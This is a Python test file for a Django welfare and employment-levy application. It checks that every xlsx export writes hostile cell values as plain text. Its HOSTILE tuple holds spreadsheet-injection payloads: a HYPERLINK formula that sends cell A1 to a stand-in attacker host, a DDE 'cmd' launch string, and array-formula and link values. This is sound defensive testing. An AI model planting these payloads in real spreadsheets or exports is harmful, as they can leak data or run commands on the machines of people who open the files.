"""No xlsx the project writes carries a formula, an array formula or a link (U11; GB/T 22239-2019
8.1.4.4): every entry point is run with hostile text written straight to the database (bypassing the
import's text rule) and the result is opened with openpyxl."""

from __future__ import annotations

import ast
import datetime as dt
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from openpyxl.worksheet.formula import ArrayFormula

from tests.helpers import STREET_A, person_row, write_csv
from xiaokang.accounts.actors import SystemActor
from xiaokang.accounts.models import User
from xiaokang.cases.models import Application, Enrolment, State
from xiaokang.cases.rosters import _write_xlsx, roster_build, roster_export
from xiaokang.cases.services import application_submit, application_transition
from xiaokang.core.models import Area
from xiaokang.employment import collection, disclosure
from xiaokang.employment.models import Declaration, Employer
from xiaokang.registry.exporting import export_persons, write_template, write_xlsx
from xiaokang.registry.models import Person
from xiaokang.registry.quality import quality_report, write_quality_xlsx
from xiaokang.registry.services import persons_import

pytestmark = pytest.mark.django_db

# Each would become a formula, an array formula, a link or a number if the writer let xlsxwriter guess.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    '{=HYPERLINK("http://evil.example","x")}',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "http://evil.example/",
    "00123",
)
NAME = HOSTILE[1]  # the penetration test's value: an array formula in the payment roster
ROOT = Path(__file__).resolve().parent.parent


def assert_plain(path: Path, *, expect: tuple[str, ...] = ()) -> None:
    """No cell of any sheet is a formula or array formula, no sheet has a link, and each of ``expect``
    appears as a string cell exactly as written."""
    book = openpyxl.load_workbook(path)
    seen = set()
    for sheet in book.worksheets:
        assert not sheet._hyperlinks, f"{path.name}/{sheet.title}: a link"
        assert not getattr(sheet, "array_formulae", {}), f"{path.name}/{sheet.title}: an array formula"
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{path.name}/{sheet.title}!{cell.coordinate} = {cell.value!r}"
                assert cell.data_type != "f", where
                assert not isinstance(cell.value, ArrayFormula), where
                assert cell.hyperlink is None, where
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    missing = [value for value in expect if value not in seen]
    assert not missing, f"{path.name}: not written as text: {missing}"


def test_the_writers_keep_hostile_text_as_text_in_every_column(tmp_path):
    header = tuple(f"col{i}" for i in range(len(HOSTILE)))
    _write_xlsx(tmp_path / "roster.xlsx", [("s", header, iter([HOSTILE, HOSTILE]))])
    assert_plain(tmp_path / "roster.xlsx", expect=HOSTILE)

    import polars as pl

    frame = pl.DataFrame({h: [v] for h, v in zip(header, HOSTILE, strict=True)})
    write_xlsx(frame, tmp_path / "frame.xlsx", extra_sheets={"合计": frame})
    assert_plain(tmp_path / "frame.xlsx", expect=HOSTILE)

    disclosure._write_workbook(tmp_path / "plain.xlsx", [("s", header, [HOSTILE], {0: "0"})])
    assert_plain(tmp_path / "plain.xlsx", expect=HOSTILE)

    write_template(tmp_path / "template.xlsx")
    assert_plain(tmp_path / "template.xlsx")


def _hostile_person(tmp_path, system_actor) -> Person:
    persons_import(actor=system_actor, path=write_csv(tmp_path / "p.csv", [person_row(1)]))
    person = Person.objects.unscoped(reason="test").get(name="测试1")
    Person.objects.unscoped(reason="test").filter(pk=person.pk).update(name=NAME, address=HOSTILE[0])
    Area.objects.filter(pk=person.community_id).update(name=HOSTILE[4])
    person.refresh_from_db()
    return person


def _enrol(person, li_district_officer) -> None:
    clerk = User.objects.create_user(
        "community_x", password="Pass-word-123", role="community_worker", area=person.community
    )
    application = application_submit(
        actor=clerk,
        person=person,
        policy_id="living_subsidy",
        channel="counter",
        received_on=dt.date(2025, 9, 30),
    ).application
    Application.objects.unscoped(reason="test").filter(pk=application.pk).update(state=State.APPROVED)
    application.refresh_from_db()
    application_transition(
        actor=li_district_officer, application=application, action="enrol", version=application.version
    )
    assert Enrolment.objects.filter(application=application).exists()


def _hostile_declaration() -> Employer:
    employer = Employer.objects.create(
        uscc="91110108000000001A",
        name=HOSTILE[1],
        employer_type="enterprise",
        street=Area.objects.get(code=STREET_A),
        committee_member=True,
    )
    figures = {"headcount": "100", "counted": "2", "quota": "1.5", "shortfall": "0", "ratio": "0.02"}
    Declaration.objects.create(
        employer=employer,
        levy_year=2025,
        headcount=Decimal(100),
        total_wages=Decimal("1000000"),
        submitted_on=dt.date(2025, 3, 10),
        state="approved",
        approved_at=dt.datetime(2025, 6, 30, 2, 0, tzinfo=dt.UTC),
        counted=2,
        levy_fen=0,
        reduction=Decimal("1"),
        exempt=False,
        decision={"figures": figures, "parameters": {"quota_ratio": "0.015"}, "version": "test"},
    )
    return employer


def test_every_xlsx_entry_point_writes_hostile_values_as_text(tmp_path, system_actor, li_district_officer):
    person = _hostile_person(tmp_path, system_actor)
    _enrol(person, li_district_officer)
    _hostile_declaration()
    district = SystemActor("tests")
    out = tmp_path / "out"
    out.mkdir()

    # The payment roster (the penetration test's finding): the name as a string cell, not {=…}.
    roster = roster_build(actor=district, policy_id="living_subsidy", month=dt.date(2025, 10, 1)).roster
    assert roster_export(actor=district, rosters=[roster], path=out / "roster.xlsx") == (1, 0)
    assert_plain(out / "roster.xlsx", expect=(NAME, HOSTILE[4]))

    assert export_persons(actor=district, path=out / "persons.xlsx") == 1
    assert_plain(out / "persons.xlsx", expect=(NAME, HOSTILE[0], HOSTILE[4]))

    write_quality_xlsx(quality_report(actor=district, today=dt.date(2026, 12, 7)), out / "quality.xlsx")
    assert_plain(out / "quality.xlsx")

    write_template(out / "template.xlsx")
    assert_plain(out / "template.xlsx")

    assert collection.collection_list_write(actor=district, levy_year=2025, path=out / "levy.xlsx")[0] == 1
    assert_plain(out / "levy.xlsx", expect=(HOSTILE[1],))

    collection.payment_list_write(actor=district, levy_year=2025, path=out / "payments.xlsx")
    assert_plain(out / "payments.xlsx")

    assert disclosure.disclosure_write(2025, "xlsx", out / "disclosure.xlsx") == 1
    assert_plain(out / "disclosure.xlsx", expect=(HOSTILE[1],))

    rows, totals = disclosure.member_units(district, 2025)
    disclosure.write_member_units_xlsx(out / "members.xlsx", 2025, rows, totals, "海淀区")
    assert_plain(out / "members.xlsx", expect=(HOSTILE[1],))

    client = Client()
    client.force_login(li_district_officer)
    response = client.get(reverse("employer-export"))
    assert response.status_code == 200
    (out / "employers.xlsx").write_bytes(b"".join(response.streaming_content))
    assert_plain(out / "employers.xlsx", expect=(HOSTILE[1],))


def test_no_module_opens_an_xlsxwriter_workbook_but_the_shared_helper():
    """Every xlsx goes through ``xiaokang.core.xlsx.workbook`` (formula, URL and number guessing off)."""
    offenders = []
    for path in (ROOT / "xiaokang").rglob("*.py"):
        if "tests" in path.parts or path == ROOT / "xiaokang" / "core" / "xlsx.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            called = isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", ""))
            if called == "Workbook":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, offenders
